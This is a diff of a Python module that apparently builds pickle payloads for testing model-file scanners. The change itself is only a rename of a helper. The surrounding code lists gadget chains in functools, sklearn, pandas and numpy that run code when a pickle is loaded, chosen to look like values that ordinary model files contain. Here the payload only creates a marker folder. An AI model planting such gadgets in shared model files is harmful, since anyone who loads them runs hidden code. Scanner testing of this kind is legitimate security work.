@@ -22,13 +22,13 @@ def _reconstructed(path: str, state: Any) -> Call:
     return Call("copyreg:_reconstructor", Name(path), Name(path), state)
 
 
-def _later(payload: Payload) -> Call:
+def later(payload: Payload) -> Call:
     """A function of any argument that runs the payload: both parts are names that honest models hold as values."""
     return Call("functools:partial", Name("sklearn.feature_extraction.text:_analyze"), payload.marker, _MAKES_FOLDER)
 
 
 def _answers(payload: Payload, name: str) -> Raw:
-    return built(Call("types:SimpleNamespace"), {name: _later(payload)})
+    return built(Call("types:SimpleNamespace"), {name: later(payload)})
 
 
 RUNS: Final[Calls] = {
@@ -59,7 +59,7 @@ RUNS: Final[Calls] = {
     ),
     "index of what answers as an array, among many attributes": lambda p: new(
         "pandas:Index",
-        built(Call("types:SimpleNamespace"), {**{f"a{at}": at for at in range(100)}, "__array__": _later(p)}),
+        built(Call("types:SimpleNamespace"), {**{f"a{at}": at for at in range(100)}, "__array__": later(p)}),
     ),
     "index of what answers as an array": lambda p: new("pandas:Index", _answers(p, "__array__")),
     "numpy generator constructor": lambda p: Call("numpy.random._pickle:__generator_ctor", p.marker, _MAKES_FOLDER),
@@ -112,4 +112,4 @@ def _behind_many_entries(payload: Payload) -> bytes:
 
 def _callable_key(payload: Payload) -> bytes:
     """`DataFrame.__setitem__` calls a key that can be called, and gives it the frame as one more argument."""
-    return stream(Raw(push(new("pandas:DataFrame")) + push(_later(payload)) + push(1) + b"s"))
+    return stream(Raw(push(new("pandas:DataFrame")) + push(later(payload)) + push(1) + b"s"))
